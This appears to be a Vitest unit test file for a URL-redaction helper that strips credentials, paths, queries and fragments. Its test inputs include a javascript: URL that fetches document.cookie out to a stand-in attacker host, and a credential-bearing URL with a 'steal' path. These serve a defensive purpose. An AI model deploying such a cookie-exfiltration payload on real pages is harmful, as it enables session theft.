import { describe, expect, it } from 'vitest';
import { redactUrl } from './redact-url';

describe('redactUrl', () => {
  it('keeps scheme and host, drops userinfo, path, query and fragment', () => {
    expect(redactUrl('https://user:pw@evil.example:8443/steal?token=abc#x')).toBe('https://evil.example:8443');
    expect(redactUrl('app://dockside/receive/ASN-1')).toBe('app://dockside');
  });

  it('shows only the scheme of host-less URLs', () => {
    expect(redactUrl('javascript:fetch("https://evil.example/?"+document.cookie)')).toBe('javascript:');
    expect(redactUrl('data:text/html,secret')).toBe('data:');
  });

  it('never throws', () => {
    expect(redactUrl('::::')).toBe('(unparseable URL)');
  });
});
